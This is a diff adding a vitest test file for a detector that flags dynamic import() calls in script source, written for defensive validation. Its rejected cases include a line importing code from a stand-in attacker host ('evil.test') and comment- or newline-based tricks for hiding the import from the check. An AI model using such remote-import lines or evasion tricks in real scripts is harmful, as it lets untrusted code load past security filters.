@@ -0,0 +1,31 @@
+import { describe, expect, it } from 'vitest'
+import { hasDynamicImport } from '@/utils/script-source'
+
+describe('hasDynamicImport', () => {
+    it.each([
+        `await import('https://evil.test/x.js')`,
+        'import ("data:text/javascript,")',
+        'import\n(url)',
+        'import/* hidden */(url)',
+        'import // hidden\n(url)',
+        'const meta = import.meta',
+        'f(...import(url))',
+        'x = [import(url)]',
+        'return import(url)',
+    ])('rejects %j', code => {
+        expect(hasDynamicImport(code)).toBe(true)
+    })
+
+    it.each([
+        'test("import works", () => {})',
+        `env.get("import_id")`,
+        '// import later',
+        '/* import the fixture first */',
+        `const key = await crypto.subtle.importKey('raw', data, 'HMAC', false, ['sign'])`,
+        'api.import(data)',
+        'const imported = 1',
+        `console.log('reimport')`,
+    ])('allows %j', code => {
+        expect(hasDynamicImport(code)).toBe(false)
+    })
+})